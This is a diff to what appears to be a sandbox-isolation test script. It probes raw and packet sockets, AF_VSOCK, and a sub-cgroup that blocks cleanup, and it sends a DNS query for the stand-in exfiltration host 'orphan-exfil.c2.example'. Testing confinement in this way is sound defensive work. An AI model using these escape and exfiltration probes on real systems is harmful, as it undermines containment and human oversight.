@@ -9,7 +9,9 @@
 #   packet       AF_PACKET (root: a frame on lo, past cgroup_skb/egress)
 #   sock-packet  (AF_INET, SOCK_PACKET): the same, by its old name
 #   vsock        AF_VSOCK: the hypervisor's host (only created, never used)
-import errno, socket, struct, sys
+#   subcgroup    (root) a cgroup inside the install's own, which kept it
+#                from being removed
+import errno, os, socket, struct, sys
 
 out = open(sys.argv[1], "w")
 
@@ -30,6 +32,10 @@ def query(name):
 note("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close())
 note("sock-packet", lambda: socket.socket(socket.AF_INET, 10, socket.htons(3)).close())
 note("vsock", lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).close())
+cg = open("/proc/self/cgroup").read().split("0::", 1)[1].strip()
+mnt = [l.split()[4] for l in open("/proc/self/mountinfo") if " - cgroup2 " in l][0]
+os.mkdir(mnt + cg + "/sub")
+out.write("subcgroup %s\n" % cg)
 s = socket.socket()
 s.connect(("127.0.0.1", 53))
 q = query("orphan-exfil.c2.example")
